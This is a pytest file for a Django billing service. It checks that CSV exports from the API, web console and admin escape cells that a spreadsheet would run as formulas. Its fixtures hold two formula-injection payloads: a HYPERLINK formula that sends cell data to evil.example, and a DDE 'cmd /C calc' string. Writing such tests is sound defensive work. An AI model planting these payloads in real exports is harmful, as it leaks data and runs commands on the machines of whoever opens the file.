"""Every CSV Slipway writes (API, console, admin) neutralises cells a spreadsheet would run as a formula."""
import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.test import Client

from billing import services
from billing.models import CostRecord
from paas_site.spreadsheet import csv_cell
from tests.billing.factories import PriceBookFactory, UsageSampleFactory
from tests.deployments.factories import ApplicationFactory, EnvironmentFactory, ProjectFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("-12.50", "-12.50"), ("12.50", "12.50"), ("CC-9", "CC-9"), ("", ""),
    (Decimal("-12.50"), Decimal("-12.50")), (3, 3), (None, ""),
])
def test_a_cell_is_written_as_text_when_it_would_run(value, written):
    assert csv_cell(value) == written


@pytest.fixture
def poisoned(db):
    """A project whose cost center, and a price book whose name, are formulas; a day of usage rated."""
    project = ProjectFactory(slug="shop", cost_center=FORMULA)
    env = EnvironmentFactory(name="dev")
    PriceBookFactory(environment=env, name=AT_FORMULA)
    UsageSampleFactory(application=ApplicationFactory(project=project, name="api"), environment=env,
                       sampled_at=datetime(2026, 3, 10, tzinfo=UTC))
    services.cost_records_compute(day=date(2026, 3, 10))


def cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def assert_neutralised(content: bytes, *formulas: str) -> None:
    written = cells(content)
    for formula in formulas:
        assert "'" + formula in written, written
    assert not [cell for cell in written if cell[:1] in ("=", "@", "+", "\t", "\r")], written


def test_the_api_report_csv(api, finance_user, poisoned):
    response = api.as_user(finance_user).get("/api/v1/billing/reports/monthly/", {"month": "2026-03", "format": "csv"},
                                             HTTP_ACCEPT="text/csv")

    assert response.status_code == 200
    assert_neutralised(response.content, FORMULA)


def test_the_console_report_csv(finance_user, poisoned):
    client = Client()
    client.force_login(finance_user)

    response = client.get("/costs/export.csv", {"month": "2026-03"})

    assert response.status_code == 200
    assert_neutralised(response.content, FORMULA)


def test_the_admin_cost_record_export(staff, poisoned):
    client = Client()
    client.force_login(staff)

    response = client.post("/admin/billing/costrecord/", {
        "action": "export_csv", "_selected_action": list(CostRecord.objects.values_list("id", flat=True))})

    assert response["Content-Type"] == "text/csv"
    assert_neutralised(response.content, AT_FORMULA)
